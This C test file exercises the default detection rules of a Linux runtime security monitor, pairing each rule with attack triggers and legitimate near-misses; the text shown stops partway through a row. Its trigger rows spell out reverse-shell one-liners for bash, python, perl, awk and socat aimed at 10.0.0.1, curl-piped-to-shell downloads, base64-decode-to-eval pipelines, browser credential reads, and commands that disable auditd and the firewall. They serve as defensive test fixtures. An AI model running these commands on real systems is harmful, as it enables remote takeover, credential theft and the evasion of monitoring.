// SPDX-License-Identifier: GPL-2.0
/*
 * The default rules (embedded): they all load, every one of them has at least
 * one trigger and one near-miss below, every trigger matches in user space AND
 * is a candidate of the compiled kernel tables (the kernel never drops what
 * user space would report), and every near-miss — the closest legitimate
 * behaviour — does not match. Plus the tables the rules rely on (syscall
 * numbers, MITRE ids).
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sched.h>
#include <unistd.h>
#include <cmocka.h>

#include "rules_test_util.h"

enum special {
	SP_NONE,
	SP_INET,  /* the process has a TCP socket on stdin/stdout */
	SP_UNIX,  /* ... a unix socket (journald's stream) */
	SP_OTHER, /* the operation names pid 1: not ours */
	SP_CHILD, /* ... names a child of the test process */
	SP_NSPARENT, /* setns: the caller's parent is in another (uts) namespace */
	SP_HOSTPARENT, /* setns: ... in the host's */
	SP_PIPE_SH,  /* the process's stdout is a pipe read by sh (no script: code from stdin) */
	SP_PIPE_CAT, /* ... read by cat */
	SP_FROM_SH,  /* the process's stdin is a pipe written by sh (an interactive shell) */
	SP_FROM_CAT, /* ... written by cat */
};

struct row {
	const char *rule;
	bool want;
	struct t_op op;
	enum special sp;
	const char *why; /* the behaviour, for failure messages */
};

#define EXEC(e, a) .kind = VG_RK_EXEC, .self = { .exe = e, .argv = a }
#define FOP(e, p, act) .kind = VG_RK_FILE, .self = { .exe = e }, .path = p, .actions = act
#define SYS(e, n) .kind = VG_RK_SYSCALL, .self = { .exe = e }, .nr = n
/* with the process's command line */
#define FOPA(e, a, p, act) .kind = VG_RK_FILE, .self = { .exe = e, .argv = a }, .path = p, .actions = act
#define SYSA(e, a, n) .kind = VG_RK_SYSCALL, .self = { .exe = e, .argv = a }, .nr = n
#define PARENT(e, a) .parent = { .exe = e, .argv = a }
#define GRAND(e, a) .grand = { .exe = e, .argv = a }
#define W VG_FA_WRITE
#define R VG_FA_READ

static const struct row rows[] = {
	/* ---------------- execution ---------------- */
	{ "shell-from-interpreter", true,
	  { EXEC("/usr/bin/dash", "/bin/sh"),
	    PARENT("/usr/bin/python3.11", "python3\t-c\timport pty;pty.spawn('/bin/sh')") },
	  .why = "pty.spawn of a shell from python" },
	{ "shell-from-interpreter", true,
	  { EXEC("/usr/bin/bash", "bash\t-i"), PARENT("/usr/bin/perl", "perl\t/var/www/cgi/x.pl") },
	  .why = "interactive bash from perl" },
	{ "shell-from-interpreter", false,
	  { EXEC("/usr/bin/dash", "/bin/sh\t-c\tgcc -o x x.c"),
	    PARENT("/usr/bin/python3.11", "python3\tsetup.py\tbuild") },
	  .why = "subprocess(shell=True) in a build tool" },
	{ "shell-from-interpreter", false,
	  { EXEC("/usr/bin/dash", "/bin/sh\t-c\tnpm run build"), PARENT("/usr/bin/node", "node\t/usr/bin/npm\trun") },
	  .why = "npm running a package script" },
	{ "shell-from-interpreter", false,
	  { EXEC("/usr/bin/bash", "bash"), PARENT("/usr/bin/make", "make\t-j2") },
	  .why = "a shell from make" },

	{ "shell-from-server", true,
	  { EXEC("/usr/bin/dash", "sh\t-c\tid;uname -a"), PARENT("/usr/sbin/nginx", "nginx: worker process") },
	  .why = "web shell via nginx" },
	{ "shell-from-server", true,
	  { EXEC("/usr/bin/dash", "sh\t-c\tcurl http://x/s|sh"), PARENT("/usr/lib/postgresql/15/bin/postgres", "postgres") },
	  .why = "COPY FROM PROGRAM" },
	{ "shell-from-server", false,
	  { EXEC("/usr/bin/dash", "sh\t-c\t/usr/sbin/sendmail -t -i"), PARENT("/usr/sbin/php-fpm8.2", "php-fpm: pool www") },
	  .why = "PHP mail()" },
	{ "shell-from-server", false,
	  { EXEC("/usr/bin/dash", "sh\t-c\tpgbackrest --stanza=main archive-push pg_wal/0001"),
	    PARENT("/usr/lib/postgresql/15/bin/postgres", "postgres") },
	  .why = "WAL archiving" },

	{ "reverse-shell", true,
	  { EXEC("/usr/bin/bash", "bash\t-i"), PARENT("/usr/bin/bash", "bash"), .conds = 1 << VG_XC_STDIO_SOCK },
	  SP_INET, "bash -i >& /dev/tcp/..." },
	{ "reverse-shell", false,
	  { EXEC("/usr/bin/dash", "/bin/sh\t/usr/lib/x/job.sh"), PARENT("/usr/bin/bash", "bash"),
	    .conds = 1 << VG_XC_STDIO_SOCK },
	  SP_UNIX, "a service script whose stdout is journald's unix socket" },
	{ "reverse-shell", false,
	  { EXEC("/usr/bin/bash", "bash"), PARENT("/usr/sbin/xinetd", "xinetd"), .conds = 1 << VG_XC_STDIO_SOCK },
	  SP_INET, "an inetd service" },

	{ "netcat-exec", true,
	  { EXEC("/usr/bin/nc.traditional", "nc\t-e\t/bin/sh\t10.0.0.1\t4444") }, .why = "nc -e" },
	{ "netcat-exec", true,
	  { EXEC("/usr/bin/socat", "socat\ttcp:10.0.0.1:4444\texec:/bin/bash,pty,stderr") }, .why = "socat exec" },
	{ "netcat-exec", false,
	  { EXEC("/usr/bin/nc.openbsd", "nc\t-zv\t10.0.0.1\t22") }, .why = "port check" },
	{ "netcat-exec", false,
	  { EXEC("/usr/bin/busybox", "sed\t-e\ts/a/b/\tf") }, .why = "busybox sed -e" },

	{ "shell-piped-to-network-tool", true,
	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_FROM_SH,
	  "cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f" },
	{ "shell-piped-to-network-tool", false,
	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_FROM_CAT, "cat file | nc" },
	{ "shell-piped-to-network-tool", false,
	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_PIPE_SH,
	  "nc whose stdout (not stdin) goes to a shell: network-tool-piped-to-shell's" },

	{ "network-tool-piped-to-shell", true,
	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_PIPE_SH, "nc | sh" },
	{ "network-tool-piped-to-shell", true,
	  { EXEC("/usr/bin/openssl", "openssl\ts_client\t-quiet\t-connect\t10.0.0.1:443") }, SP_PIPE_SH,
	  "openssl s_client | sh: the two-connection TLS reverse shell's first half" },
	{ "network-tool-piped-to-shell", false,
	  { EXEC("/usr/bin/nc.traditional", "nc\t10.0.0.1\t4444") }, SP_PIPE_CAT, "nc | cat" },

	{ "download-piped-to-shell", true,
	  { EXEC("/usr/bin/curl", "curl\t-fsSL\thttp://10.0.0.1/i.sh") }, SP_PIPE_SH, "curl | sh" },
	{ "download-piped-to-shell", false,
	  { EXEC("/usr/bin/curl", "curl\t-fsSL\thttp://10.0.0.1/a.json") }, SP_PIPE_CAT, "curl | cat" },

	{ "python-inline-shell", true,
	  { EXEC("/usr/bin/python3.11",
		 "python3\t-c\timport socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4444));"
		 "os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")") },
	  .why = "python reverse shell" },
	{ "python-inline-shell", false,
	  { EXEC("/usr/bin/python3.11",
		 "/usr/bin/python3\t-W\tignore::DeprecationWarning\t-c\timport runpy\nimport sys\n"
		 "sys.path = ['/tmp/x/pip.whl'] + sys.path\nsys.argv[1:] = ['install']\n"
		 "runpy.run_module(\"pip\", run_name=\"__main__\", alter_sys=True)") },
	  .why = "ensurepip's pip bootstrap (python -m venv)" },
	{ "python-inline-shell", false,
	  { EXEC("/usr/bin/python3.11", "python3\t-c\timport sysconfig; print(sysconfig.get_paths())") },
	  .why = "build metadata one-liner" },

	{ "python-inline-shell", true,
	  { EXEC("/usr/bin/python3.11", "python3\t-c\timport os; os.system('curl -s http://x/a | sh')") },
	  .why = "download and run" },
	{ "python-inline-socket", true,
	  { EXEC("/usr/bin/python3.11",
		 "python3\t-c\timport socket;s=socket.socket();s.connect((\"10.0.0.1\",443));s.send(b\"x\")") },
	  .why = "a beacon" },
	{ "python-inline-socket", false,
	  { EXEC("/usr/bin/python3.11", "python3\t-c\timport json,sys; print(json.load(sys.stdin)['v'])") },
	  .why = "a JSON one-liner in a CI script" },
	{ "shell-from-interpreter", false,
	  { EXEC("/usr/bin/bash", "/bin/bash"),
	    PARENT("/home/dev/.vscode-server/bin/abc123/node",
		   "/home/dev/.vscode-server/bin/abc123/node\t--dns-result-order=ipv4first\tout/bootstrap-fork\t--type=ptyHost") },
	  .why = "a VS Code remote terminal" },
	{ "exec-from-hidden-dir", false,
	  { EXEC("/tmp/w/node_modules/.pnpm/@esbuild+linux-x64@0.19.0/node_modules/@esbuild/linux-x64/bin/esbuild",
		 "esbuild\t--version") },
	  .why = "esbuild installed by pnpm" },
	{ "exec-from-hidden-dir", false,
	  { EXEC("/src/infra/.terraform/providers/registry.terraform.io/hashicorp/aws/5.0.0/linux_amd64/terraform-provider-aws_v5.0.0",
		 "terraform-provider-aws_v5.0.0") },
	  .why = "a terraform provider" },
	{ "exec-from-hidden-dir", true,
	  { EXEC("/home/u/.config/.sysd/kworker", "kworker") }, .why = "payload hidden under ~/.config" },
	{ "gained-root-unexpected", false,
	  { EXEC("/usr/sbin/exim4", "/usr/sbin/sendmail\t-t"), .conds = 1 << VG_XC_GAINED_ROOT },
	  .why = "a user sending mail through exim" },
	{ "sudoers-modified", false,
	  { FOPA("/usr/bin/python3.11", "/usr/bin/python3\t/usr/bin/cloud-init\tinit", "/etc/sudoers.d/90-cloud-init-users",
		 VG_FA_CREATE) },
	  .why = "cloud-init provisioning the default user" },
	{ "script-inline-shell-or-socket", true,
	  { EXEC("/usr/bin/perl", "perl\t-e\tuse Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
				  "connect(S,sockaddr_in(4444,inet_aton(\"10.0.0.1\")));exec(\"/bin/sh -i\");") },
	  .why = "perl reverse shell" },
	{ "script-inline-shell-or-socket", true,
	  { EXEC("/usr/bin/node", "node\t-e\trequire('child_process').exec('nc -e /bin/sh 10.0.0.1 1')") },
	  .why = "node child_process one-liner" },
	{ "script-inline-shell-or-socket", false,
	  { EXEC("/usr/bin/perl", "perl\t-ne\tprint if /^Version/\tdebian/control") }, .why = "perl text filter" },
	{ "shell-dev-tcp-command-loop", true,
	  { EXEC("/usr/bin/bash", "bash\t-c\texec 5<>/dev/tcp/10.0.0.1/4242;cat <&5 | while read line; do $line 2>&5 >&5; done") },
	  .why = "bash read-line reverse shell" },
	{ "shell-dev-tcp-command-loop", true,
	  { EXEC("/usr/bin/bash", "bash\t-c\texec 3<>/dev/udp/10.0.0.1/53; while read -r c; do eval \"$c\" >&3 2>&1; done <&3") },
	  .why = "the same over UDP, commands through eval" },
	{ "shell-dev-tcp-command-loop", false,
	  { EXEC("/usr/bin/bash", "bash\t-c\tuntil echo > /dev/tcp/db/5432; do sleep 1; done") },
	  .why = "a CI job waiting for its database's port" },
	{ "shell-dev-tcp-command-loop", false,
	  { EXEC("/usr/bin/bash", "bash\t-c\t</dev/tcp/127.0.0.1/8080 && while read l; do echo \"$l\"; done < ports.txt") },
	  .why = "a port check, then a loop that prints" },
	{ "awk-network-connection", true,
	  { EXEC("/usr/bin/gawk", "awk\tBEGIN {s=\"/inet/tcp/0/10.0.0.1/4242\";while(42){do{printf \"> \" |& s;"
				  "s |& getline c;if(c){while((c |& getline) > 0)print $0 |& s;close(c)}}"
				  "while(c != \"exit\")close(s)}}") },
	  .why = "gawk reverse shell" },
	{ "awk-network-connection", true,
	  { EXEC("/usr/bin/gawk", "gawk\t-v\tH=10.0.0.1\tBEGIN { print \"id\" |& \"/inet4/udp/0/\" H \"/53\" }") },
	  .why = "gawk over UDP, IPv4 only" },
	{ "awk-network-connection", false,
	  { EXEC("/usr/bin/gawk", "awk\t-F:\t$3 >= 1000 { print $1 }\t/etc/passwd") },
	  .why = "awk listing users" },
	{ "awk-network-connection", false,
	  { EXEC("/usr/bin/gawk", "awk\t/tcp/ && /LISTEN/ { n++ } END { print n }\t/proc/net/tcp") },
	  .why = "awk counting listening sockets" },

	{ "exec-from-temp-dir", true,
	  { EXEC("/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"), PARENT("/usr/bin/dash", "sh\t-c\tcurl x|sh") },
	  .why = "payload in /tmp" },
	{ "exec-from-temp-dir", true,
	  { EXEC("/dev/shm/.x/y", "y"), PARENT("/usr/bin/bash", "bash") }, .why = "payload in /dev/shm" },
	{ "exec-from-temp-dir", false,
	  { EXEC("/tmp/pytest-of-root/pytest-3/test_ci0/proj/test_prog", "./test_prog"),
	    PARENT("/usr/bin/make", "make\ttest") },
	  .why = "a test binary in a build tree under /tmp" },

	{ "exec-from-hidden-dir", true,
	  { EXEC("/var/tmp/.X1-unix/miner", "miner") }, .why = "binary in a dot directory" },
	{ "exec-from-hidden-dir", true,
	  { EXEC("/root/.config/.d/agent", "agent") }, .why = "dot dir under a home" },
	{ "exec-from-hidden-dir", false,
	  { EXEC("/home/dev/.cargo/bin/rustc", "rustc") }, .why = "rustup toolchain" },
	{ "exec-from-hidden-dir", false,
	  { EXEC("/root/.local/bin/ruff", "ruff\tcheck") }, .why = "pip --user tool" },

	{ "fileless-exec", true,
	  { EXEC("/memfd:x (deleted)", "x"), .conds = 1 << VG_XC_MEMFD }, .why = "exec of a memfd" },
	{ "fileless-exec", false,
	  { EXEC("/memfd:runc_cloned:/proc/self/exe (deleted)", "runc\tinit"), .conds = 1 << VG_XC_MEMFD },
	  .why = "runc's cloned binary" },

	{ "exec-via-dynamic-loader", true,
	  { EXEC("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
		 "/lib64/ld-linux-x86-64.so.2\t/mnt/noexec/payload"),
	    PARENT("/usr/bin/bash", "bash") },
	  .why = "running a binary from a noexec mount" },
	{ "exec-via-dynamic-loader", false,
	  { EXEC("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2\t/bin/ls"),
	    PARENT("/usr/bin/bash", "/bin/bash\t/usr/bin/ldd\t/bin/ls") },
	  .why = "ldd" },
	{ "exec-via-dynamic-loader", false,
	  { EXEC("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2",
		 "/lib64/ld-linux-x86-64.so.2\t--verify\t/bin/ls") },
	  .why = "ldd's --verify" },

	/* ---------------- persistence ---------------- */
	{ "cron-job-modified", true,
	  { FOP("/usr/bin/bash", "/etc/cron.d/backdoor", VG_FA_WRITE | VG_FA_CREATE) }, .why = "echo > /etc/cron.d/x" },
	{ "cron-job-modified", true,
	  { FOP("/usr/bin/crontab", "/var/spool/cron/crontabs/root", VG_FA_RENAME_TO) }, .why = "crontab -" },
	{ "cron-job-modified", false,
	  { FOP("/usr/sbin/cron", "/etc/crontab", R) }, .why = "cron reading its tables" },
	{ "cron-job-modified", false,
	  { FOP("/usr/bin/dpkg", "/etc/cron.d/sysstat", VG_FA_CREATE) }, .why = "dpkg installing a cron file" },
	{ "cron-job-modified", false,
	  { FOP("/usr/bin/dash", "/etc/cron.daily/x", W), PARENT("/usr/bin/dash", "/var/lib/dpkg/info/x.postinst"),
	    GRAND("/usr/bin/dpkg", "dpkg\t-i\tx.deb") },
	  .why = "a maintainer script" },

	{ "at-job-created", true,
	  { FOP("/usr/bin/at", "/var/spool/cron/atjobs/a0001", VG_FA_CREATE) }, .why = "at now + 1 min" },
	{ "at-job-created", false,
	  { FOP("/usr/sbin/atd", "/var/spool/cron/atjobs/a0001", R) }, .why = "atd running the job" },

	{ "systemd-unit-modified", true,
	  { FOP("/usr/bin/cp", "/etc/systemd/system/evil.service", VG_FA_CREATE) }, .why = "new unit" },
	{ "systemd-unit-modified", true,
	  { FOP("/usr/bin/tee", "/home/u/.config/systemd/user/agent.service", W) }, .why = "user unit" },
	{ "systemd-unit-modified", false,
	  { FOP("/usr/bin/systemctl", "/etc/systemd/system/multi-user.target.wants/ssh.service", VG_FA_SYMLINK) },
	  .why = "systemctl enable" },
	{ "systemd-unit-modified", false,
	  { FOP("/usr/bin/dpkg", "/usr/lib/systemd/system/nginx.service.dpkg-new", VG_FA_CREATE) },
	  .why = "a package's unit" },

	{ "shell-profile-modified", true,
	  { FOP("/usr/bin/bash", "/root/.bashrc", W) }, .why = "echo >> ~/.bashrc" },
	{ "shell-profile-modified", true,
	  { FOP("/usr/bin/cp", "/etc/profile.d/zz.sh", VG_FA_CREATE) }, .why = "profile.d drop-in" },
	{ "shell-profile-modified", false,
	  { FOP("/usr/sbin/useradd", "/home/new/.bashrc", VG_FA_CREATE) }, .why = "useradd -m copying skel" },
	{ "shell-profile-modified", false,
	  { FOPA("/usr/bin/perl", "/usr/bin/perl\t-T\t/usr/sbin/adduser\tbob", "/home/bob/.profile", VG_FA_CREATE) },
	  .why = "adduser copying skel" },
	{ "shell-profile-modified", false,
	  { FOP("/usr/bin/bash", "/root/.bashrc", R) }, .why = "a shell reading its rc" },

	{ "ssh-authorized-keys-modified", true,
	  { FOP("/usr/bin/bash", "/root/.ssh/authorized_keys", W) }, .why = "echo key >> authorized_keys" },
	{ "ssh-authorized-keys-modified", false,
	  { FOP("/usr/sbin/sshd", "/home/u/.ssh/authorized_keys", R) }, .why = "sshd checking a key" },
	{ "ssh-authorized-keys-modified", false,
	  { FOPA("/usr/bin/python3.11", "/usr/bin/python3\t/usr/bin/cloud-init\tmodules", "/home/debian/.ssh/authorized_keys", W) },
	  .why = "cloud-init installing the instance key" },

	{ "account-created", true,
	  { EXEC("/usr/sbin/useradd", "useradd\t-m\tbackdoor"), PARENT("/usr/bin/bash", "bash") },
	  .why = "useradd by hand" },
	{ "account-created", false,
	  { EXEC("/usr/sbin/useradd", "useradd\t--system\t_svc"), PARENT("/usr/bin/dash", "/var/lib/dpkg/info/x.postinst"),
	    GRAND("/usr/bin/dpkg", "dpkg\t-i\tx.deb") },
	  .why = "a package creating its system user" },

	{ "account-privileges-granted", true,
	  { EXEC("/usr/sbin/usermod", "usermod\t-aG\tsudo\tmallory") }, .why = "usermod -aG sudo" },
	{ "account-privileges-granted", true,
	  { EXEC("/usr/sbin/useradd", "useradd\t-o\t-u\t0\ttoor") }, .why = "uid 0 account" },
	{ "account-privileges-granted", false,
	  { EXEC("/usr/sbin/usermod", "usermod\t-s\t/bin/zsh\tbob") }, .why = "changing a shell" },

	{ "account-files-modified", true,
	  { FOP("/usr/bin/bash", "/etc/passwd", W) }, .why = "echo >> /etc/passwd" },
	{ "account-files-modified", true,
	  { FOP("/usr/bin/sed", "/etc/shadow", VG_FA_RENAME_TO) }, .why = "sed -i /etc/shadow" },
	{ "account-files-modified", false,
	  { FOP("/usr/sbin/useradd", "/etc/passwd", W) }, .why = "useradd" },
	{ "account-files-modified", false,
	  { FOP("/usr/bin/passwd", "/etc/shadow", VG_FA_RENAME_TO) }, .why = "passwd" },

	{ "ld-so-preload-modified", true,
	  { FOP("/usr/bin/bash", "/etc/ld.so.preload", VG_FA_WRITE | VG_FA_CREATE) }, .why = "rootkit hook" },
	{ "ld-so-preload-modified", false,
	  { FOP("/usr/bin/ls", "/etc/ld.so.preload", R) }, .why = "the loader reading it" },

	{ "ld-so-conf-modified", true,
	  { FOP("/usr/bin/tee", "/etc/ld.so.conf.d/evil.conf", VG_FA_CREATE) }, .why = "search path hijack" },
	{ "ld-so-conf-modified", false,
	  { FOP("/usr/bin/dpkg", "/etc/ld.so.conf.d/x86_64-linux-gnu.conf.dpkg-new", VG_FA_CREATE) },
	  .why = "libc package" },

	{ "rc-script-modified", true,
	  { FOP("/usr/bin/bash", "/etc/rc.local", W) }, .why = "rc.local" },
	{ "rc-script-modified", true,
	  { FOP("/usr/bin/tee", "/etc/update-motd.d/99-x", W) }, .why = "a motd script runs at login" },
	{ "rc-script-modified", false,
	  { FOP("/usr/bin/run-parts", "/etc/update-motd.d/10-uname", VG_FA_READ) },
	  .why = "motd scripts read at login" },
	{ "rc-script-modified", false,
	  { FOPA("/usr/bin/perl", "/usr/bin/perl\t/usr/sbin/update-rc.d\tnginx\tdefaults", "/etc/rc2.d/S01nginx", VG_FA_SYMLINK) },
	  .why = "update-rc.d" },

	{ "package-manager-hook-modified", true,
	  { FOP("/usr/bin/bash", "/etc/apt/apt.conf.d/99evil", VG_FA_CREATE) }, .why = "APT hook" },
	{ "package-manager-hook-modified", false,
	  { FOP("/usr/bin/dash", "/etc/apt/apt.conf.d/01autoremove", W),
	    PARENT("/usr/bin/dpkg", "dpkg\t--configure\t-a") },
	  .why = "a package's own apt.conf.d file" },

	/* ---------------- privilege escalation ---------------- */
	{ "sudoers-modified", true,
	  { FOP("/usr/bin/bash", "/etc/sudoers.d/90-x", VG_FA_CREATE) }, .why = "NOPASSWD drop-in" },
	{ "sudoers-modified", false,
	  { FOP("/usr/sbin/visudo", "/etc/sudoers", VG_FA_RENAME_TO) }, .why = "visudo" },
	{ "sudoers-modified", false,
	  { FOP("/usr/bin/sudo", "/etc/sudoers", R) }, .why = "sudo reading it" },

	{ "setuid-bit-set", true,
	  { FOP("/usr/bin/chmod", "/nonexistent-vigil-test/.b", VG_FA_SETID | VG_FA_CHMOD), .mode = 04755 },
	  .why = "chmod u+s on a copied shell" },
	{ "setuid-bit-set", false,
	  { FOP("/usr/bin/chmod", "/tmp", VG_FA_SETID | VG_FA_CHMOD), .mode = 02775 },
	  .why = "setgid on a shared directory" },
	{ "setuid-bit-set", false,
	  { FOP("/usr/bin/dpkg", "/usr/bin/sudo.dpkg-new", VG_FA_SETID | VG_FA_CHMOD), .mode = 04755 },
	  .why = "dpkg installing sudo" },

	{ "file-capabilities-set", true,
	  { FOP("/usr/sbin/setcap", "/usr/bin/python3.11", VG_FA_XATTR_CAPS), PARENT("/usr/bin/bash", "bash") },
	  .why = "cap_setuid on python" },
	{ "file-capabilities-set", false,
	  { FOP("/usr/sbin/setcap", "/usr/bin/ping", VG_FA_XATTR_CAPS),
	    PARENT("/usr/bin/dash", "/var/lib/dpkg/info/iputils-ping.postinst"), GRAND("/usr/bin/dpkg", "dpkg") },
	  .why = "ping's postinst" },

	{ "gained-root-unexpected", true,
	  { EXEC("/tmp/.x/rootsh", "rootsh"), .conds = 1 << VG_XC_GAINED_ROOT }, .why = "planted setuid shell" },
	{ "gained-root-unexpected", false,
	  { EXEC("/usr/bin/sudo", "sudo\tapt\tupdate"), .conds = 1 << VG_XC_GAINED_ROOT }, .why = "sudo" },
	{ "gained-root-unexpected", false,
	  { EXEC("/usr/bin/passwd", "passwd"), .conds = 1 << VG_XC_GAINED_ROOT }, .why = "passwd" },

	{ "cgroup-release-agent-write", true,
	  { FOP("/usr/bin/dash", "/tmp/cgrp/release_agent", W) }, .why = "container escape PoC" },
	{ "cgroup-release-agent-write", false,
	  { FOP("/usr/lib/systemd/systemd", "/sys/fs/cgroup/systemd/release_agent", W) }, .why = "systemd on cgroup v1" },

	{ "host-namespace-joined", true,
	  { SYS("/usr/bin/nsenter", 308), .args = { 3, 0x04000000 } }, SP_NSPARENT,
	  "setns into the host's uts namespace from a process whose parent is in another" },
	{ "host-namespace-joined", true,
	  { SYS("/tmp/x", 308), .args = { 3, 0 } }, SP_NSPARENT, "setns with nstype 0 (any)" },
	{ "host-namespace-joined", false,
	  { SYS("/usr/bin/ip", 308), .args = { 5, 0x04000000 } }, SP_HOSTPARENT,
	  "ip netns add going back to the namespace its parent is in" },
	{ "host-namespace-joined", false,
	  { SYS("/usr/bin/nsenter", 308), .args = { 3, 0x40000000 } }, SP_NSPARENT,
	  "joined the host's net namespace, where its parent already is (only its uts is private)" },

	{ "nsenter-init-namespaces", true,
	  { EXEC("/usr/bin/nsenter", "nsenter\t-t\t1\t-m\t-u\t-i\t-n\t-p\t--\tbash") }, .why = "nsenter -t 1" },
	{ "nsenter-init-namespaces", true,
	  { EXEC("/usr/bin/nsenter", "nsenter\t--all\t--target=1\tsh") }, .why = "nsenter --target=1" },
	{ "nsenter-init-namespaces", false,
	  { EXEC("/usr/bin/nsenter", "nsenter\t-t\t4242\t-n\tss\t-tln") }, .why = "into a container's netns" },
	{ "nsenter-init-namespaces", false,
	  { EXEC("/usr/bin/nsenter", "nsenter\t--net=/run/netns/ci1\tip\taddr") }, .why = "a named netns" },

	{ "browser-credentials-read", true,
	  { FOP("/usr/bin/python3.11", "/home/u/.config/google-chrome/Default/Login Data", R) },
	  .why = "an infostealer reading Chrome's saved passwords" },
	{ "browser-credentials-read", true,
	  { FOP("/usr/bin/cp", "/home/u/.mozilla/firefox/x1.default-release/key4.db", R) },
	  .why = "Firefox's key database copied" },
	{ "browser-credentials-read", false,
	  { FOP("/opt/google/chrome/chrome", "/home/u/.config/google-chrome/Default/Login Data", R) },
	  .why = "Chrome reading its own store" },
	{ "browser-credentials-read", false,
	  { FOP("/usr/bin/cat", "/home/u/.config/google-chrome/Default/Bookmarks", R) },
	  .why = "bookmarks exported" },

	{ "decoded-payload-to-shell", true,
	  { EXEC("/usr/bin/base64", "base64\t-d") }, SP_PIPE_SH, "base64 -d | sh" },
	{ "decoded-payload-to-shell", false,
	  { EXEC("/usr/bin/base64", "base64\t-d") }, SP_PIPE_CAT, "base64 -d | cat" },
	{ "decoded-payload-to-shell", false,
	  { EXEC("/usr/bin/base64", "base64\t-w0") }, SP_PIPE_SH, "encoding, not decoding" },

	{ "decode-pipeline-to-shell", true,
	  { EXEC("/usr/bin/base64", "base64\t--decode"),
	    PARENT("/usr/bin/bash", "bash\t-c\techo aWQK | base64 --decode | bash") }, .why = "echo | base64 --decode | bash" },
	{ "decode-pipeline-to-shell", true,
	  { EXEC("/usr/bin/xxd", "xxd\t-r\t-p"),
	    PARENT("/usr/bin/dash", "sh\t-c\tcurl -s http://x/p | xxd -r -p | sh 2>&1") }, .why = "xxd -r -p | sh" },
	{ "decode-pipeline-to-shell", false,
	  { EXEC("/usr/bin/base64", "base64\t-d\tkey.b64"),
	    PARENT("/usr/bin/dash", "sh\t-c\tbase64 -d key.b64 > key && sh ./install.sh") }, .why = "decode to a file, then a script" },
	{ "decode-pipeline-to-shell", false,
	  { EXEC("/usr/bin/base64", "base64\t-d"),
	    PARENT("/usr/bin/dash", "sh\t-c\tbase64 -d < a.b64 | sh -c 'cat > a'") }, .why = "decoded into a shell running its own command" },

	{ "decode-pipeline-to-shell", true,
	  { EXEC("/usr/bin/base64", "base64\t-d"),
	    PARENT("/usr/bin/bash", "bash\t-c\teval \"$(echo aWQK | base64 -d)\"") }, .why = "eval of decoded text" },
	{ "decode-pipeline-to-shell", false,
	  { EXEC("/usr/bin/base64", "base64\t-d"),
	    PARENT("/usr/bin/bash", "bash\t-c\tKEY=\"$(echo $K | base64 -d)\"; ./deploy") }, .why = "decoded into a variable" },

	{ "decode-pipeline-to-shell", true,
	  { EXEC("/usr/bin/base64", "base64\t-d"),
	    PARENT("/usr/bin/bash", "bash\t-c\tsource <(echo ZWNobyBoaQo= | base64 -d)") }, .why = "source <(... | base64 -d)" },
	{ "decode-pipeline-to-shell", false,
	  { EXEC("/usr/bin/base64", "base64\t-d"),
	    PARENT("/usr/bin/bash", "bash\t-c\tdiff <(base64 -d a.b64) b.bin") }, .why = "decoded for a comparison" },

	{ "inline-decoded-code-exec", true,
	  { EXEC("/usr/bin/python3.11", "python3\t-c\timport base64;exec(base64.b64decode('cHJpbnQoMSk='))") },
	  .why = "python exec(b64decode(...))" },
	{ "inline-decoded-code-exec", true,
	  { EXEC("/usr/bin/perl", "perl\t-MMIME::Base64\t-e\teval(decode_base64('cHJpbnQgMQ=='))") },
	  .why = "perl eval(decode_base64(...))" },
	{ "inline-decoded-code-exec", false,
	  { EXEC("/usr/bin/python3.11", "python3\t-c\timport base64,sys;print(base64.b64decode(sys.argv[1]))") },
	  .why = "decoding data to print it" },

	{ "security-tooling-disabled", true,
	  { EXEC("/usr/bin/systemctl", "systemctl\tdisable\t--now\tauditd.service") }, .why = "auditd disabled" },
	{ "security-tooling-disabled", true,
	  { EXEC("/usr/sbin/auditctl", "auditctl\t-e\t0") }, .why = "auditing off" },
	{ "security-tooling-disabled", true,
	  { EXEC("/usr/sbin/service", "service\tfalco\tstop") }, .why = "falco stopped" },
	{ "security-tooling-disabled", false,
	  { EXEC("/usr/bin/systemctl", "systemctl\trestart\tauditd") }, .why = "restarted" },
	{ "security-tooling-disabled", false,
	  { EXEC("/usr/bin/systemctl", "systemctl\tstop\tnginx.service") }, .why = "another service" },
	{ "security-tooling-disabled", false,
	  { EXEC("/usr/sbin/auditctl", "auditctl\t-l") }, .why = "rules listed" },

	{ "firewall-disabled", true,
	  { EXEC("/usr/sbin/xtables-nft-multi", "iptables\t-F") }, .why = "iptables -F" },
	{ "firewall-disabled", true,
	  { EXEC("/usr/sbin/xtables-nft-multi", "iptables\t-P\tINPUT\tACCEPT") }, .why = "policy ACCEPT" },
	{ "firewall-disabled", true,
	  { EXEC("/usr/sbin/nft", "nft\tflush\truleset") }, .why = "nft flush ruleset" },
	{ "firewall-disabled", false,
	  { EXEC("/usr/sbin/xtables-nft-multi", "iptables\t-t\tnat\t-F\tDOCKER") }, .why = "one chain flushed" },
	{ "firewall-disabled", false,
	  { EXEC("/usr/sbin/xtables-nft-multi", "iptables\t-F"), PARENT("/usr/bin/dockerd", "dockerd") },
	  .why = "dockerd resetting" },
	{ "firewall-disabled", false,
	  { EXEC("/usr/sbin/xtables-nft-multi", "iptables\t-L\t-n") }, .why = "rules listed" },

	{ "immutable-attribute-changed", true,
	  { EXEC("/usr/bin/chattr", "chattr\t+i\t/etc/ld.so.preload") }, .why = "persistence locked" },
	{ "immutable-attribute-changed", true,
	  { EXEC("/usr/bin/chattr", "chattr\t-R\t-ia\t/var/log") }, .why = "logs unlocked" },
	{ "immutable-attribute-changed", false,
